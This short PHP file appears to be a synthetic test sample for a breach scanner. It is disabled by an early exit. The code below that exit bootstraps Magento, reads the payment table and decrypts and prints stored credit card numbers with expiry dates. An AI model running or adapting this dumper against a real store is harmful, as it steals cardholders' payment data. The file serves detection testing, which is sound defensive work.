<?php
// synthetic test sample for breachscan: stored payment data dumper shape - a stand-alone
// script bootstraps Magento, reads sales_flat_order_payment and decrypts the stored card
// fields. Disabled by the early exit.
exit;
require_once 'app/Mage.php';
Mage::app();
$db = Mage::getSingleton('core/resource')->getConnection('core_read');
$rows = $db->fetchAll('SELECT parent_id, cc_owner, cc_number_enc, cc_exp_month, cc_exp_year FROM sales_flat_order_payment');
foreach ($rows as $r) {
    echo $r['parent_id'], ';', Mage::helper('core')->decrypt($r['cc_number_enc']), ';', $r['cc_exp_month'], "\n";
}
